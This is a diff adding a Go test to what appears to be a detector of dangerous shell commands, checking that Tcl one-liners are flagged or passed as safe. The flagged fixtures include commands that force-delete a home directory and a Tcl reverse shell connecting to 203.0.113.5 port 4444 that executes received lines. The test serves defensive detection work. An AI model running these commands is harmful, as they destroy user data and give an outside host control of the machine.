@@ -148,6 +148,22 @@ func TestCaseFlagsAndArrayArguments(t *testing.T) {
 	checkSafe(t, d, ps, []string{`& git @('status','--short')`, `git @('log','--oneline','-5')`})
 }
 
+// Tcl's file delete takes a command's words, and a socket whose lines
+// exec runs is a remote shell.
+func TestTclDeletesAndSockets(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`tclsh <<< 'file delete -force $env(HOME)'`, CategoryFileDelete, "rm-recursive-home", LevelCritical},
+		{`echo 'file delete -force /home/dev' | tclsh`, CategoryFileDelete, "rm-recursive-home", LevelCritical},
+		{`tclsh <<< 'set s [socket 203.0.113.5 4444]; while {[gets $s c] >= 0} {catch {exec sh -c $c} r; puts $s $r; flush $s}'`, CategoryReverseShell, "", LevelCritical},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`tclsh <<< 'file delete -force build'`,
+		`tclsh <<< 'puts [clock format [clock seconds]]'`,
+		`echo 'set s [socket localhost 8080]; puts $s ping; close $s' | tclsh`,
+	})
+}
+
 // replaceToken replaces a name only where it stands alone.
 func TestReplaceToken(t *testing.T) {
 	for _, tc := range []struct{ code, old, with, want string }{
